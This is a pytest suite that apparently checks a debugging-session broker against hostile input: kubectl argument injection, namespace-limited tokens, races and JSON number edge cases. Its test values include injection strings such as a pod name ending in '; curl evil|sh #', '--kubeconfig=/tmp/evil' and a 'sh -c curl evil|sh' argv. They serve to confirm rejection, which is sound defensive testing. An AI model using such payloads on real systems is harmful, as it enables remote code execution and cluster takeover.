"""Hostile and edge-case input against a real broker process and a real Redis:
names that reach kubectl, namespace-limited tokens, races between agents and
replicas, long waits, revoked tokens during a stream, numbers JSON cannot hold."""

from __future__ import annotations

import asyncio
import json
import math
import threading
import time

import httpx
import pytest
import redis

from breakpod import protocol
from breakpod_broker import events as broker_events
from breakpod_broker import keys, scripts
from tests.brokerkit import ADMIN, AGENT, AGENT2, VIEWER, post_events, register

EVIL_POD = "x --server=https://203.0.113.9 --insecure-skip-tls-verify=true; curl evil|sh #"


def event(eid, session="s1", kind="anomaly", **fields):
    return {"id": eid, "session": session, "kind": kind, "fields": fields}


@pytest.mark.parametrize(
    "fields",
    [
        {"pod": EVIL_POD, "namespace": "ml"},
        {"pod": "-x", "namespace": "ml"},
        {"pod": "train-0", "namespace": "--kubeconfig=/tmp/evil"},
        {"pod": "train-0", "namespace": "ML"},
        {"node": "n1 --as=admin"},
        {"container": "c;id"},
        {"address": "0.0.0.0:99999"},  # no such port: kubectl would be told to forward it
        {"address": "h:0"},
    ],
)
def test_names_that_reach_kubectl_must_be_kubernetes_names(broker, fields):
    with broker.client(AGENT) as c:
        response = c.put("/v1/sessions/k", json={"runtime": "kubernetes", **fields})
    assert response.status_code == 422, response.text
    assert any(name in response.json()["message"] for name in fields)


def test_port_forward_is_an_argv_list_and_stored_bad_names_are_dropped(broker):
    register(broker, "k", runtime="kubernetes", pod="train-0.a", namespace="ml", address="h:5678")
    with broker.client(VIEWER) as c:
        info = c.get("/v1/sessions/k/attach", params={"local_port": 4000}).json()
        assert info["port_forward_argv"] == [
            *("kubectl", "port-forward", "-n", "ml", "pod/train-0.a", "4000:5678")
        ]
        with redis.Redis.from_url(broker.redis_url) as r:  # written by an older, laxer broker
            r.hset(keys.session("k"), "pod", EVIL_POD)
        stale = c.get("/v1/sessions/k/attach")
    assert stale.status_code == 200 and stale.json()["port_forward_argv"] is None
    assert "evil" not in stale.text  # the invalid stored name is dropped, never forwarded


@pytest.mark.parametrize(
    "argv",
    [
        None,
        ["kubectl", "port-forward", "-n", "ml", "pod/x", "1:2", "--server=https://evil"],
        ["kubectl", "port-forward", "-n", "ml", "--server=https://evil", "1:2"],
        ["sh", "-c", "curl evil|sh", "x", "pod/x", "1:2"],
    ],
)
def test_the_cli_runs_only_a_well_formed_port_forward_argv(argv):
    from breakpod._cli.broker import port_forward_argv
    from breakpod._core.errors import AttachError

    info = {"port_forward_argv": argv, "port_forward": "kubectl ...", "connect": "127.0.0.1:1"}
    with pytest.raises(AttachError):
        port_forward_argv(info)


def test_ids_with_a_colon_are_rejected_so_redis_keys_cannot_collide(broker):
    with broker.client(AGENT) as c:
        assert c.put("/v1/sessions/a:b", json={}).status_code == 422
    register(broker, "a")
    assert post_events(broker, event("b:c", session="a")).status_code == 422


def test_concurrent_registration_of_one_id_gives_exactly_one_owner(broker):
    async def race(session_id: str) -> list[int]:
        async with httpx.AsyncClient(base_url=broker.url, timeout=10) as c:
            puts = [
                c.put(
                    f"/v1/sessions/{session_id}", json={}, headers={"Authorization": f"Bearer {t}"}
                )
                for t in (AGENT, AGENT2)
            ]
            return sorted(r.status_code for r in await asyncio.gather(*puts))

    async def races() -> list[list[int]]:
        return await asyncio.gather(*(race(f"race-{i}") for i in range(30)))

    assert all(codes == [200, 403] for codes in asyncio.run(races()))


def limited_admin(broker) -> str:
    with broker.client(ADMIN) as admin:
        made = admin.post("/v1/tokens", json={"role": "admin", "namespaces": ["team-a"]})
    assert made.status_code == 201
    return str(made.json()["token"])


def test_a_namespace_limited_admin_stays_in_its_namespaces(broker):
    register(broker, "a", namespace="team-a")
    register(broker, "b", namespace="team-b")
    with broker.client(ADMIN) as admin:
        other = admin.post("/v1/tokens", json={"role": "viewer", "namespaces": ["team-b"]}).json()
    with broker.client(limited_admin(broker)) as c:
        for namespaces in (None, ["team-b"], ["team-a", "team-b"]):
            made = c.post("/v1/tokens", json={"role": "admin", "namespaces": namespaces})
            assert made.status_code == 403, namespaces
        mine = c.post("/v1/tokens", json={"role": "viewer", "namespaces": ["team-a"]})
        assert mine.status_code == 201
        listed = c.get("/v1/tokens").json()
        assert all(t["namespaces"] and set(t["namespaces"]) <= {"team-a"} for t in listed)
        assert mine.json()["id"] in [t["id"] for t in listed]
        assert c.delete(f"/v1/tokens/{other['id']}").status_code == 404
        assert c.post("/v1/sessions/b/commands", json={"command": "break"}).status_code == 404
        assert c.get("/v1/sessions/b/commands", params={"wait": 0}).status_code == 404
        assert c.post("/v1/sessions/a/commands", json={"command": "break"}).status_code == 202
        assert c.get("/metrics").status_code == 403
    with broker.client(ADMIN) as admin:
        assert other["id"] in [t["id"] for t in admin.get("/v1/tokens").json()]


def test_a_limited_viewer_sees_only_its_namespaces_notifier_failures(start_broker, redis_url):
    notifier = [{"name": "hook", "url": "http://127.0.0.1:9/"}]
    broker = start_broker(BREAKPOD_NOTIFIERS=json.dumps(notifier))
    with redis.Redis.from_url(redis_url) as r:
        for ns in ("team-a", "team-b"):
            r.xadd(keys.NOTIFIER_FAILURES, {"notifier": "hook", "session": ns, "namespace": ns})
    with broker.client(ADMIN) as admin:
        made = admin.post("/v1/tokens", json={"role": "viewer", "namespaces": ["team-a"]}).json()
        assert len(admin.get("/v1/notifiers").json()[0]["recent_failures"]) == 2
    with broker.client(made["token"]) as c:
        failures = c.get("/v1/notifiers").json()[0]["recent_failures"]
    assert [f["namespace"] for f in failures] == ["team-a"]


@pytest.mark.timeout(30)
def test_a_long_poll_outlasts_the_redis_socket_timeout(broker):
    register(broker, "s1")
    started = time.monotonic()
    with broker.client(AGENT) as c:
        response = c.get("/v1/sessions/s1/commands", params={"wait": 6})
    assert response.status_code == 200, response.text
    assert response.json() == {"commands": []} and time.monotonic() - started >= 5.9


@pytest.mark.timeout(30)
def test_streams_beyond_the_replica_cap_get_429_and_batches_obey_max_batch(start_broker):
    """Command polls have no cap (they cost an asyncio.Event); event streams have one."""
    broker = start_broker(
        BREAKPOD_MAX_WAITERS="2", BREAKPOD_MAX_FOLLOWERS="1", BREAKPOD_MAX_BATCH="2"
    )
    register(broker, "s1")
    statuses: list[int] = []
    polls = [threading.Thread(target=_poll, args=(broker, 2, statuses)) for _ in range(4)]
    for poll in polls:
        poll.start()
    headers = {"Authorization": f"Bearer {VIEWER}"}
    with (
        httpx.Client(base_url=broker.url, timeout=10) as c,
        c.stream("GET", "/v1/events/stream", headers=headers) as first,
    ):
        lines = first.iter_lines()  # kept: a dropped iterator closes the stream
        next(lines)
        refused = c.get("/v1/events/stream", headers=headers)
        assert refused.status_code == 429 and "BREAKPOD_MAX_FOLLOWERS" in refused.json()["detail"]
        assert c.get("/readyz").status_code == 200
    for poll in polls:
        poll.join(10)
    assert statuses == [200] * 4  # twice BREAKPOD_MAX_WAITERS
    with broker.client(AGENT) as c:
        assert c.get("/v1/sessions/s1/commands", params={"wait": 0}).status_code == 200
    too_many = post_events(broker, event("e1"), event("e2"), event("e3"))
    assert too_many.status_code == 413 and "at most 2" in too_many.json()["detail"]


def _poll(broker, wait, statuses=None):
    with broker.client(AGENT) as c:
        status = c.get("/v1/sessions/s1/commands", params={"wait": wait}).status_code
    assert status == 200
    if statuses is not None:
        statuses.append(status)


@pytest.mark.timeout(30)
def test_an_idle_stream_outlasts_the_redis_socket_timeout(broker):
    with httpx.Client(base_url=broker.url, timeout=10) as c:
        headers = {"Authorization": f"Bearer {VIEWER}"}
        with c.stream("GET", "/v1/events/stream", headers=headers) as r:
            opened, stream = time.monotonic(), r.iter_lines()
            while time.monotonic() - opened < 6:
                next(stream)  # raises StopIteration if the stream was cut


@pytest.mark.timeout(30)
def test_a_stream_ends_when_its_token_is_revoked(broker):
    with broker.client(ADMIN) as admin:
        made = admin.post("/v1/tokens", json={"role": "viewer"}).json()
    headers = {"Authorization": f"Bearer {made['token']}"}
    with httpx.Client(base_url=broker.url, timeout=10) as c:
        with c.stream("GET", "/v1/events/stream", headers=headers) as r:
            stream = r.iter_lines()
            assert next(stream).startswith("retry:")
            with broker.client(ADMIN) as admin:
                assert admin.delete(f"/v1/tokens/{made['id']}").status_code == 204
            revoked = time.monotonic()
            lines = list(stream)  # ends within the re-check period plus one block
        assert time.monotonic() - revoked < 6 and all(not x.startswith("data:") for x in lines)
        assert c.get("/v1/events/stream", headers=headers).status_code == 401


def test_redelivered_commands_keep_their_order_and_delivered_is_recorded_once(broker):
    register(broker, "s1")
    with broker.client(ADMIN) as admin:
        sent = [
            admin.post("/v1/sessions/s1/commands", json={"command": name}).json()["id"]
            for name in ("break", "dump-stacks", "resume")
        ]
    with broker.client(AGENT) as c:
        for _ in range(3):
            polled = c.get("/v1/sessions/s1/commands", params={"wait": 0}).json()["commands"]
            assert [x["id"] for x in polled] == sent
        c.post(f"/v1/sessions/s1/commands/{sent[1]}/ack", json={})
        after_ack = c.get("/v1/sessions/s1/commands", params={"wait": 0}).json()["commands"]
        assert [x["id"] for x in after_ack] == [sent[0], sent[2]]
    with broker.client(VIEWER) as c:
        recorded = c.get("/v1/events", params={"kind": "command"}).json()["events"]
    delivered = [e["fields"]["command_id"] for e in recorded if e["fields"]["state"] == "delivered"]
    assert delivered == sent


def test_bad_cursors_and_corrupt_token_records_get_4xx(broker):
    top = f"{2**64 - 1}-{2**64 - 1}"
    with broker.client(VIEWER) as c:
        assert c.get("/v1/events", params={"since": top}).status_code == 422
        assert c.get("/v1/events", params={"since": "1-2"}).status_code == 200
    with redis.Redis.from_url(broker.redis_url) as r:
        from breakpod_broker.tokens import digest

        for token, record in [("corrupt-token-1", "{not json"), ("corrupt-token-2", '{"x": 1}')]:
            r.hset(keys.TOKENS, digest(token), record)
    with broker.client("corrupt-token-1") as c:
        assert c.get("/v1/sessions").status_code == 401
    with broker.client("corrupt-token-2") as c:
        assert c.get("/v1/sessions").status_code == 401
    with broker.client(ADMIN) as c:
        assert c.get("/v1/tokens").status_code == 200


def _strict(text: str):
    def refuse(constant):
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_nan_and_infinity_in_fields_get_422_naming_the_path(broker):
    register(broker, "s1")
    body = {"events": [event("e1", loss=1.0, grad=[0.5, math.inf])]}
    with broker.client(AGENT) as c:
        raw = json.dumps(body)  # Python's json writes the invalid token Infinity
        response = c.post("/v1/events", content=raw, headers={"content-type": "application/json"})
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert detail.startswith("events.0.fields.grad.1:") and '"inf"' in detail


def _post_loss(broker, literal: str):
    register(broker, "s1")
    raw = protocol.dumps({"events": [event("e1", loss=1.0)]}).replace("1.0", literal)
    assert literal in raw
    with broker.client(AGENT) as c:
        return c.post("/v1/events", content=raw, headers={"content-type": "application/json"})


@pytest.mark.parametrize("literal", ["1e400", "-2.5E+309", "1" + "0" * 400 + ".0"])
def test_a_number_past_float64_gets_422_not_a_stored_null(broker, literal):
    """Read as an infinity, it would be stored (and come back) as null."""
    response = _post_loss(broker, literal)
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert detail.startswith("events.0.fields.loss:") and "infinities" in detail, detail
    with broker.client(VIEWER) as c:
        assert c.get("/v1/events").json()["events"] == []


def test_an_integer_past_64_bits_is_stored_as_the_same_number(broker):
    big = 9 * 10**40
    assert _post_loss(broker, str(big)).status_code == 200
    with broker.client(VIEWER) as c:
        (stored,) = c.get("/v1/events").json()["events"]
    assert stored["fields"]["loss"] == big


def test_agent_encoded_nan_and_stored_nan_read_as_strings(broker):
    register(broker, "s1")
    body = {"events": [event("e1", loss=math.nan, grad=[math.inf, -math.inf, 1.5])]}
    with broker.client(AGENT) as c:
        raw = protocol.dumps(body)  # what the agent sends
        response = c.post("/v1/events", content=raw, headers={"content-type": "application/json"})
        assert response.status_code == 200, response.text
    with redis.Redis.from_url(broker.redis_url) as r:  # one stored by an older broker, NaN and all
        doc = {**event("e2", loss=math.nan), "namespace": None, "time": 1.0, "received": 1.0}
        r.xadd(keys.EVENTS, {"event": json.dumps(doc)})
    expected = [{"loss": "nan", "grad": ["inf", "-inf", 1.5]}, {"loss": "nan"}]
    with broker.client(VIEWER) as c:
        page = _strict(c.get("/v1/events").text)["events"]
        assert [e["fields"] for e in page] == expected
        with c.stream("GET", "/v1/events/stream", params={"since": "0"}) as r:
            data = [_strict(line[5:]) for line in _data_lines(r, 2)]
    assert [e["fields"] for e in data] == expected


def _data_lines(response, n):
    lines = []
    for line in response.iter_lines():
        if line.startswith("data:"):
            lines.append(line)
            if len(lines) == n:
                break
    return lines


def test_ingest_never_recreates_an_expired_session_hash(broker):
    """What INGEST_LUA does when another replica's view of the session is stale."""
    with redis.Redis.from_url(broker.redis_url, decode_responses=True) as r:
        change = [1, "parked", "bp", "", "", "", "{}"]  # events._changes: one per state change
        args = [100, 100, 60, 3600, keys.seen("gone", ""), 1, "e1", "{}", *change]
        reply = r.eval(scripts.INGEST_LUA, 3, *broker_events._lua_keys("gone"), *args)
        assert reply and not r.exists(keys.session("gone"))
        r.hset(keys.session("live"), mapping={"state": "running"})
        args[4], args[6] = keys.seen("live", ""), "e2"
        r.eval(scripts.INGEST_LUA, 3, *broker_events._lua_keys("live"), *args)
        assert r.hget(keys.session("live"), "state") == "parked"
        assert r.ttl(keys.session("live")) > 0


def test_pruning_keeps_a_session_that_came_back_meanwhile(broker):
    """read_many saw no hash for these ids; one was re-registered before the prune."""
    with redis.Redis.from_url(broker.redis_url, decode_responses=True) as r:
        r.zadd(keys.SESSIONS, {"back": 1, "gone": 1})
        r.hset(keys.session("back"), "state", "running")
        ids = ["back", "gone"]
        r.eval(scripts.PRUNE_LUA, 2, *map(keys.session, ids), *ids, keys.SESSIONS)
        assert r.zrange(keys.SESSIONS, 0, -1) == ["back"]


def test_namespace_limited_queries_filter_before_decoding_and_still_match(broker):
    register(broker, "a", namespace="team-a")
    register(broker, "b", namespace="team-b")
    register(broker, "n")
    post_events(broker, event("a1", "a"), event("b1", "b", note='"namespace": "team-a"'))
    post_events(broker, event("a2", "a", kind="log"), event("n1", "n"))
    with broker.client(ADMIN) as admin:
        made = admin.post("/v1/tokens", json={"role": "viewer", "namespaces": ["team-a"]}).json()
    with broker.client(made["token"]) as c:
        assert [e["id"] for e in c.get("/v1/events").json()["events"]] == ["a1", "a2"]
        anomalies = c.get("/v1/events", params={"kind": "anomaly"}).json()["events"]
        assert [e["id"] for e in anomalies] == ["a1"]


def test_lua_scripts_are_loaded_again_when_redis_forgot_them(broker):
    """Scripts run by SHA; a restarted Redis has an empty script cache (SCRIPT FLUSH here)."""
    register(broker, "flushed")
    with redis.Redis.from_url(broker.redis_url, decode_responses=True) as r:
        r.script_flush()
        register(broker, "flushed", pod="train-0")  # the register script, called alone
        r.script_flush()
        response = post_events(broker, event("f1", "flushed", "parked", address="h:1"))
        assert response.status_code == 200, response.text  # the ingest script, in a pipeline
        assert r.hget(keys.session("flushed"), "state") == "parked"
        r.delete(keys.session("flushed"), keys.alive("flushed"))
        r.script_flush()
    with broker.client(VIEWER) as c:  # the prune script, on an expired session
        assert "flushed" not in {s["id"] for s in c.get("/v1/sessions").json()["sessions"]}
    with redis.Redis.from_url(broker.redis_url, decode_responses=True) as r:
        assert r.zscore(keys.SESSIONS, "flushed") is None


def test_a_pod_name_label_over_63_characters_is_refused(broker):
    """DNS-1123: each dot-separated label of a subdomain has at most 63 characters."""
    with broker.client(AGENT) as c:
        ok = c.put("/v1/sessions/dns", json={"pod": f"{'a' * 63}.b"})
        long = c.put("/v1/sessions/dns2", json={"pod": f"{'a' * 64}.b"})
    assert ok.status_code == 200, ok.text
    assert long.status_code == 422 and "pod" in long.json()["message"]


def test_readyz_says_why_when_redis_is_away():
    """The app in process on a port where no Redis listens: up (healthz), not ready."""
    from fastapi.testclient import TestClient

    from breakpod_broker.app import create_app
    from breakpod_broker.redis_server import free_port
    from breakpod_broker.settings import BrokerSettings

    settings = BrokerSettings(redis_url=f"redis://127.0.0.1:{free_port()}/0")
    with TestClient(create_app(settings)) as c:
        ready, alive = c.get("/readyz"), c.get("/healthz")
    assert ready.status_code == 503
    assert ready.json()["status"].startswith("redis unavailable: ")
    assert alive.status_code == 200 and alive.json() == {"status": "ok"}


@pytest.mark.parametrize("namespace", ["team-b", "team-a"])
def test_a_limited_agent_learns_nothing_of_another_namespaces_session(broker, namespace):
    """Registering an id another namespace holds answers 404 and names no owner or
    namespace (it answered 403 "belongs to another token", or 409 naming the namespace)."""
    register(broker, "theirs", token=AGENT2, namespace=namespace)
    with broker.client(ADMIN) as admin:
        limited = admin.post("/v1/tokens", json={"role": "agent", "namespaces": ["team-a"]})
    token = limited.json()["token"]
    with broker.client(token) as c:
        taken = c.put("/v1/sessions/theirs", json={"namespace": "team-a"})
        beat = c.post("/v1/sessions/theirs/heartbeat", json={})
    if namespace == "team-b":  # not the token's to see: as if there were none
        assert taken.status_code == 404 and beat.status_code == 404, taken.text
        assert "team-b" not in taken.text and "another token" not in taken.text
    else:  # its own namespace: another token's session, as before
        assert taken.status_code == 403 and beat.status_code == 403, taken.text
    with broker.client(ADMIN) as admin:  # the session is untouched
        assert admin.get("/v1/sessions/theirs").json()["namespace"] == namespace


@pytest.mark.parametrize(
    "since", ["١٧٠٠٠٠٠٠٠٠", "١٧٠٠٠٠٠٠٠٠٠٠٠-٠", "１７００", "1_700_000_000", " 17", "1e9", "+5"]
)
def test_since_takes_ascii_digits_only(broker, since):
    """A cursor or unix seconds in ASCII digits (float() and \\d took Arabic-Indic and
    full-width digits, and 1_700 or 1e9); anything else is one 422 naming the value."""
    with broker.client(VIEWER) as c:
        listed = c.get("/v1/events", params={"since": since})
        with c.stream("GET", "/v1/events/stream", params={"since": since}) as streamed:
            status = streamed.status_code  # a stream that opened is not read on
    assert listed.status_code == 422 and "neither a cursor" in listed.text, listed.text
    assert status == 422
